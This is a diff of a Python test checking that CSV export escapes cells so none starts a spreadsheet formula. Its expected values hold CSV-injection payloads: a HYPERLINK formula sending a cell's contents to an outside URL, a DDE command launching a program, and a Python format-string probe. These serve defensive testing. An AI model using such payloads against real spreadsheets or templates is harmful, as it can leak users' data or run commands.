@@ -17,8 +17,8 @@ def test_csv_cells_never_start_a_formula(tmp_path):
     assert not checked.problems.errors
     rows = list(csv.reader(io.StringIO(claims_csv(checked))))
     cells = [cell for row in rows for cell in row]
-    assert "'=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\") {date.__class__.__mro__}" in cells
-    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert "'=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\") {date.__class__.__mro__} 1,229 chips, 1.7 times" in cells
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0 1229颗，1.7倍" in cells
     assert "'\tA statement that starts with a tab." in cells
     assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
     assert len({len(row) for row in rows}) == 1
